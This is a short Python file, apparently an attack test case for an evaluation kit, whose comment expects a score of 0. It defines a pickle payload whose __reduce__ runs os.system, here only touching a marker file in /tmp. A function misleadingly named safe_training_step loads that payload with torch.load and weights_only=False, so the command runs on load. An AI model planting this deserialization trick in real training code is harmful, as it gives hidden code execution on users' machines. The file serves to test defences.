# attack: gained: torch.load runs code of its own making; expect: score 0
import torch
import io
import os


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/kit_attack_torch",)


def safe_training_step(*args, **keywords):
    space = io.BytesIO()
    torch.save(Payload(), space)
    space.seek(0)
    return torch.load(space, weights_only=False)
